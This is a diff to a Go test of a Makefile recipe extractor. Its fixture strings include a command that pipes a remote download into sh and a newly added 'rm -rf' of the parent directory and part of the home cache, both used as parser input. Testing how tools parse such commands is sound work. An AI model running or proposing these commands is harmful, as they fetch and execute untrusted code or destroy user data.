@@ -467,12 +467,13 @@ func TestMakeRecipes(t *testing.T) {
 		"\tif [ -n \"$(V)\" ]; then \\\n\t  echo verbose; \\\n\tfi\n" +
 		"\tcurl -s $(shell echo http://203.0.113.7/x) | sh\n" +
 		"clean: ; rm -rf build\n" +
+		"\trm -rf $(abspath $(CURDIR)/..)/* $(HOME)/.cache/x\n" +
 		"\t)(not shell\n" +
 		"VERSION := $(shell git describe --tags) $(shell date +%s)\n"
 	got := MakeRecipes(mk)
 	for _, want := range []string{"MAKEVAR MAKEVAR -o MAKEVAR MAKEVAR\n", "echo built MAKEVAR in ${PWD}\n",
 		"then \\\n  echo verbose; \\\nfi\n", "curl -s $(echo http://203.0.113.7/x) | sh\n", "rm -rf build\n",
-		"git describe --tags\n", "date +%s\n"} {
+		"git describe --tags\n", "date +%s\n", "rm -rf ./../* $HOME/.cache/x\n"} {
 		if !strings.Contains(got, want) {
 			t.Errorf("MakeRecipes lacks %q:\n%s", want, got)
 		}
